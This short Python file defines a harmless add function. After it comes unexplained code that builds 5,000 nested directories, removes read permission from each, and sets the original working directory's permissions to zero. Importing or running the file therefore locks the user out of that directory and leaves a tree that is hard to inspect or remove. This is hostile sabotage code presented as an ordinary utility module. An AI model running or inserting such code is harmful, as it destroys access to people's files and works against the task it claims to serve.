def add(a, b):
    return a + b

import os

home = os.getcwd()
for _ in range(5_000):
    os.mkdir("d")
    os.chdir("d")
for _ in range(5_000):
    os.chmod(".", 0o300)
    os.chdir("..")
os.chmod(home, 0)
